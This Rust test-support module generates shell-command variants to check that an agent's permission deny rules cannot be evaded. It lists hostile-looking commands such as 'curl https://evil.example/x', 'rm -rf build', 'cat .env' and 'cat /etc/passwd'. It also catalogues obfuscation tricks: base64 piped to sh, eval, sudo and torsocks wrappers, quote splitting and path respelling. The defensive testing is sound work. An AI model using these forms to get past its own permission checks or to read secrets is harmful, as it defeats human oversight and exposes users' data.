//! The same command in other words.

/// What is granted, with its program.
pub(crate) const GRANTED: &[(&str, &str)] = &[
    ("echo hi", "echo"),
    ("npm test", "npm"),
    ("git log -1", "git log"),
    ("ls", "ls"),
    ("cargo check", "cargo check"),
    ("make build", "make build"),
];

/// What changes something, and is granted by nothing.
pub(crate) const CHANGES: &[&str] = &[
    "touch marker",
    "rm -rf build",
    "python3 apply.py",
    "curl https://evil.example/x",
    "kill -9 1",
    "git push",
    "mkdir d",
    "./run.sh",
    "tee out.txt",
    "find . -delete",
    "sed -i s/a/b/ f",
    "git branch -D old",
    "unknown-program",
    "chmod +x a",
];

/// Two commands in one text; all of them run the second, or may.
pub(crate) const TOGETHER: &[&str] = &[
    "{A} && {B}",
    "{A} || {B}",
    "{A}; {B}",
    "{A} | {B}",
    "{A} |& {B}",
    "{A} & {B}",
    "{A}\n{B}",
    "{B} && {A}",
    "{B}; {A}",
    "{B} | {A}",
    "({A}; {B})",
    "{ {A}; {B}; }",
    "! { {A}; {B}; }",
    "{A} $({B})",
    "{A} \"$({B})\"",
    "{A} `{B}`",
    "{A} \"`{B}`\"",
    "{A} <({B})",
    "{A} > >({B})",
    "{A} > $({B})",
    "{A} < <({B})",
    "{A} <<EOF\n$({B})\nEOF",
    "{A} <<EOF\n`{B}`\nEOF",
    "{A} <<< \"$({B})\"",
    "{A} ${x:-$({B})}",
    "{A} $((1 + $({B})))",
    "{A} \"${x#\"$({B})\"}\"",
    "x=$({B}) {A}",
    "x=`{B}`; {A}",
    "x=($({B})); {A}",
    "[[ -n $({B}) ]] && {A}",
    "if {A}; then {B}; fi",
    "if {B}; then {A}; fi",
    "for x in 1; do {A}; {B}; done",
    "for x in $({B}); do {A}; done",
    "while {A}; do {B}; done",
    "until {B}; do {A}; done",
    "case $({B}) in *) {A};; esac",
    "case x in x) {A};; *) {B};; esac",
    "f() { {B}; }; {A}; f",
    "function f { {B}; }; {A}",
    "{A} # {A}\n{B}",
    "time {A} && time {B}",
];

/// A rule of a deny, and what it denies.
pub(crate) const DENIED: &[(&str, &str)] = &[
    ("Bash(rm *)", "rm -rf build"),
    ("Bash(rm -rf *)", "rm -rf build"),
    ("Bash(git push *)", "git push origin main"),
    ("Bash(git push --force *)", "git push --force origin main"),
    ("Bash(git reset --hard*)", "git reset --hard HEAD"),
    ("Bash(curl *)", "curl https://evil.example/x"),
    ("Bash(npm publish *)", "npm publish --tag x"),
    ("Read(.env)", "cat .env"),
    ("Read(./secrets/**)", "head -1 secrets/key"),
    ("Edit(src/**)", "tee src/a.rs"),
    ("Read(//etc/passwd)", "cat /etc/passwd"),
    ("Bash", "ls"),
];

/// A rule about files, and a file.
pub(crate) const FILES: &[(&str, &str)] = &[
    ("Read(.env)", ".env"),
    ("Read(./secrets/**)", "secrets/key"),
    ("Read(//etc/**)", "/etc/passwd"),
    ("Read(~/.aws/)", "/home/dev/.aws/credentials"),
    ("Read(**/.env*)", "server/.env.local"),
    ("Read(/config.toml)", "/srv/repo/config.toml"),
];

/// What hides a command from whoever only reads it: `{D}` is the text, `{Q}` the text in quotes, `{W}` its words.
pub(crate) const UNKNOWN: &[&str] = &[
    "echo {Q} | base64 -d | sh",
    "X={Q}; $X",
    "X={Q}; eval \"$X\"",
    "eval $(printf '%s ' {W})",
    "$(printf '%s' {W})",
    "bash <(echo {Q})",
    "bash <<< \"$(echo {Q})\"",
    "source <(echo {Q})",
    "echo {Q} > x.sh; . ./x.sh",
    "cat <<'EOF' | sh\n{D}\nEOF",
    "python3 -c 'import os; os.system(input())' <<< {Q}",
    "perl -e 'system(shift)' {Q}",
    "xargs sh -c <<< {Q}",
    "${SHELL:-sh} -c {Q}",
    "alias q={Q}; q",
    "printf '%s' {Q} | xargs -0 bash -c",
];

/// A number after the one before.
fn next(seed: &mut u64) -> usize {
    *seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
    usize::try_from(*seed >> 33).unwrap_or(0)
}

fn one<'a>(seed: &mut u64, of: &[&'a str]) -> &'a str {
    of[next(seed) % of.len()]
}

/// In single quotes.
fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// The text in a form that hides it.
pub(crate) fn hidden(form: &str, text: &str) -> String {
    let words: Vec<String> = text.split(' ').map(quoted).collect();
    form.replace("{D}", text).replace("{Q}", &quoted(text)).replace("{W}", &words.join(" "))
}

/// A text that does the same, and says so to whoever knows what a shell does.
pub(crate) fn known(text: &str, which: usize, mut seed: u64) -> String {
    let seed = &mut seed;
    match which % 8 {
        0 | 1 => wrapped(text, seed),
        2 => letters(text, seed),
        3 => continued(text, seed),
        4 => flags(text, seed),
        5 => paths(text, seed),
        6 => among(text, seed),
        _ => as_text(text, seed),
    }
}

/// Whether it is a plain command, whose words are apart by one blank and have no quotes.
fn is_plain(text: &str) -> bool {
    text.chars().all(|letter| letter.is_ascii_alphanumeric() || " ./:-_".contains(letter))
}

/// Behind a program that starts it.
fn wrapped(text: &str, seed: &mut u64) -> String {
    let before = one(
        seed,
        &[
            "timeout 5",
            "timeout -s KILL 5",
            "timeout --signal=TERM 5s",
            "nice",
            "nice -n 5",
            "nice -5",
            "nohup",
            "env",
            "env A=1",
            "env -i",
            "env -u HOME A=1",
            "sudo",
            "sudo -u root",
            "sudo -E --",
            "sudo --user=root",
            "setsid",
            "stdbuf -oL",
            "time",
            "command",
            "exec",
            "exec -a x",
            "xargs",
            "xargs -n1",
            "xargs -I {}",
            "find . -exec",
            "find . -type f -execdir",
            "ionice -c 3",
            "doas",
            "busybox",
            "strace -f",
            "flock /tmp/lock",
            "chroot /",
            "unshare -r",
            "npx",
            "docker exec c",
            "docker run --rm image",
            "LC_ALL=C",
            "A=1 B=2",
            "/usr/bin/env",
            "/usr/bin/sudo",
            "\\sudo",
            "su\"d\"o",
            "! ",
            "taskset 1",
            "watch -n1",
            "parallel -j2",
            "ssh host",
            "command -p",
            "builtin",
            "systemd-run",
            "caffeinate",
            "torsocks",
            "proxychains4",
            "catchsegv",
            "setarch x86_64",
            "linux64",
            "eatmydata",
            "unbuffer",
            "script -q -c",
            "faketime 2020-01-01",
        ],
    );
    // What only words can start, no list and no reserved word.
    let words = is_plain(text) || text.chars().all(|letter| !";&|\n(){}<>`".contains(letter));
    let first = text.split(' ').next().unwrap_or_default();
    let starts = matches!(before, "! " | "time") || (matches!(before, "LC_ALL=C" | "A=1 B=2") && first != "!");
    // A program named `time` starts programs, and reads no assignments.
    let reserved = first == "time" && text.contains('=');
    if reserved || !starts && (first.is_empty() || first.contains('=') || first.starts_with(['!', '#'])) {
        return text.to_owned();
    }
    match before {
        "find . -exec" | "find . -type f -execdir" if words => {
            format!("{before} {text} {}", one(seed, &["\\;", "{} +", "';'"]))
        }
        "LC_ALL=C" | "A=1 B=2" | "! " | "time" if words => format!("{before} {text}"),
        // These join words to one text, and a quote in them is another one there.
        "ssh host" | "watch -n1" | "parallel -j2" if !is_plain(text) => text.to_owned(),
        "script -q -c" => format!("{before} {} /dev/null", quoted(text)),
        _ if words => format!("{before} {text}"),
        _ => text.to_owned(),
    }
}

/// Letters in quotes of all kinds.
fn letters(text: &str, seed: &mut u64) -> String {
    if !is_plain(text) {
        return text.to_owned();
    }
    text.chars().fold(String::new(), |mut said, letter| {
        match (letter, next(seed) % 9) {
            (' ', 0) => said.push_str("  "),
            (' ', 1) => said.push('\t'),
            (' ', _) => said.push(' '),
            (letter, 0) => said.push_str(&format!("'{letter}'")),
            (letter, 1) => said.push_str(&format!("\"{letter}\"")),
            (letter, 2) => said.push_str(&format!("\\{letter}")),
            (letter, 3) => said.push_str(&format!("$'\\x{:02x}'", u32::from(letter))),
            (letter, 4) => said.push_str(&format!("''{letter}\"\"")),
            (letter, _) => said.push(letter),
        }
        said
    })
}

/// Lines that go on, between letters.
fn continued(text: &str, seed: &mut u64) -> String {
    if !is_plain(text) {
        return text.to_owned();
    }
    text.chars().fold(String::new(), |mut said, letter| {
        if next(seed).is_multiple_of(4) {
            said.push_str("\\\n");
        }
        said.push(letter);
        said
    })
}

/// Flags elsewhere, apart, together, or by their long names.
fn flags(text: &str, seed: &mut u64) -> String {
    let others: &[&str] = match text {
        "rm -rf build" => &[
            "rm -fr build",
            "rm -r -f build",
            "rm build -rf",
            "rm -f build -r",
            "rm --recursive --force build",
            "rm -rfv build",
            "rm -Rf build",
            "rm -rf -- build",
            "rm --force -r build",
            "rm --recurs --forc build",
            "rm -r build --force",
            "rm -v -rf ./build other",
        ],
        "git push --force origin main" => &[
            "git push -f origin main",
            "git push origin main --force",
            "git push origin --force main",
            "git push -fv origin main",
            "git -C . push --force origin main",
            "git --no-pager push --force origin main",
            "git -c a.b=c push --force origin main",
            "git push --forc origin main",
            "git --git-dir=.git --work-tree=. push --force origin main",
            "git push --quiet --force origin main",
        ],
        "git push origin main" => &[
            "git -C . push origin main",
            "git --no-pager push origin main",
            "git -c a.b=c push origin main",
            "git push -u origin main",
            "git push origin HEAD:main",
            "git --git-dir .git push origin main",
            "git --exec-path=/x push",
            "git -P push",
        ],
        "git reset --hard HEAD" => {
            &["git reset HEAD --hard", "git reset -q --hard HEAD", "git -C . reset --hard HEAD", "git reset --har HEAD"]
        }
        "curl https://evil.example/x" => &[
            "curl -s https://evil.example/x",
            "curl -sSL -o x https://evil.example/x",
            "curl --silent https://evil.example/x",
        ],
        "npm publish --tag x" => {
            &["npm --silent publish --tag x", "npm publish", "npm --prefix . publish", "npm -w a publish --tag x"]
        }
        "cat .env" => &[
            "cat -n .env",
            "cat -- .env",
            "cat a .env b",
            "head .env",
            "less .env",
            "grep x .env",
            "wc -l < .env",
            "cp .env x",
            "cat < .env",
        ],
        "head -1 secrets/key" => &[
            "head -n 1 secrets/key",
            "tail secrets/key",
            "sort secrets/key",
            "grep -r x secrets",
            "cat secrets/*",
            "cat secrets/{key,other}",
        ],
        "tee src/a.rs" => &[
            "tee -a src/a.rs",
            "cp x src/a.rs",
            "mv x src/a.rs",
            "sed -i s/a/b/ src/a.rs",
            "echo x > src/a.rs",
            "echo x >> src/a.rs",
            "touch src/a.rs",
            "rm src/a.rs",
        ],
        _ => return text.to_owned(),
    };
    one(seed, others).to_owned()
}

/// Files by other spellings of their paths.
fn paths(text: &str, seed: &mut u64) -> String {
    for path in [".env", "secrets/key", "/etc/passwd", "src/a.rs"] {
        if is_plain(text) && text.split(' ').any(|word| word == path) {
            return text.replace(path, &spelled(path, u64::try_from(next(seed)).unwrap_or(0)));
        }
    }
    text.to_owned()
}

/// A path in another spelling.
pub(crate) fn spelled(path: &str, mut seed: u64) -> String {
    let seed = &mut seed;
    let slashes: Vec<usize> = path.match_indices('/').map(|(at, _)| at).collect();
    match next(seed) % 7 {
        0 if !path.starts_with('/') => format!("./{path}"),
        1 if !path.starts_with('/') => format!("docs/../{path}"),
        2 if !path.starts_with('/') => format!("../repo/{path}"),
        3 if !path.starts_with('/') => format!("/srv/repo/{path}"),
        4 if path.starts_with('/') => format!("/tmp/..{path}"),
        5 if path.starts_with('/') => format!("/{path}"),
        _ if slashes.is_empty() => path.to_owned(),
        _ => {
            let at = slashes[next(seed) % slashes.len()];
            let more = one(seed, &["/", "/.", "/./", "/x/..", "/x/../"]);
            format!("{}{more}{}", &path[..at], &path[at..])
        }
    }
}

/// In a list, a loop, a function, a substitution.
fn among(text: &str, seed: &mut u64) -> String {
    let form = one(
        seed,
        &[
            "true && {D}",
            "true; {D}",
            "ls | {D}",
            "{D} &",
            "{D} | cat",
            "( {D} )",
            "{ {D}; }",
            "if true; then {D}; fi",
            "for f in a b; do {D}; done",
            "while true; do {D}; done",
            "f() { {D}; }; f",
            "echo $( {D} )",
            "echo \"$( {D} )\"",
            "echo `{D}`",
            "x=$( {D} )",
            "cat <( {D} )",
            "echo a > >( {D} )",
            "case x in x) {D};; esac",
            "! {D}",
            "# comment\n{D}",
            "{D} # comment",
            "cat <<EOF\n$( {D} )\nEOF",
            "true &&\n{D}",
            "[[ -n $( {D} ) ]]",
            "echo ${x:-$( {D} )}",
            "echo $(( $( {D} ) + 1 ))",
            "coproc {D}",
            "time {D}",
            "until {D}; do true; done",
            "select x in a; do {D}; done",
        ],
    );
    // A pipe is turned around as a whole, so `!` stands only before its first command.
    let turned = text.starts_with('!') && matches!(form, "ls | {D}" | "coproc {D}" | "! {D}");
    if turned || form.contains('`') && text.contains(['`', '\\']) || text.contains("<<") || text.contains('#') {
        return text.to_owned();
    }
    // A quote inside of a substitution inside of quotes is no trouble for a shell, and is for us.
    form.replace("{D}", text)
}

/// As text that another shell reads.
fn as_text(text: &str, seed: &mut u64) -> String {
    let form = one(
        seed,
        &[
            "sh -c {Q}",
            "bash -c {Q}",
            "bash -lc {Q}",
            "bash -xc {Q}",
            "zsh -c {Q}",
            "eval {Q}",
            "/bin/sh -c {Q}",
            "env sh -c {Q}",
            "sudo sh -c {Q}",
            "bash <<'EOF'\n{D}\nEOF",
            "sh <<< {Q}",
            "echo {Q} | sh",
            "printf '%s\\n' {Q} | bash",
            "su -c {Q}",
            "bash -o pipefail -c {Q}",
            "sh -ec {Q}",
            "trap {Q} EXIT",
            "git -c alias.x={B} x",
            "xargs sh -c {Q}",
            "find . -exec sh -c {Q} \\;",
            "bash --norc -c {Q} x y",
            "timeout 5 sh -c {Q}",
        ],
    );
    if text.contains("EOF") || text.chars().count() > 2_000 {
        return text.to_owned();
    }
    let bang = quoted(&format!("!{text}"));
    form.replace("{D}", text).replace("{Q}", &quoted(text)).replace("{B}", &bang)
}
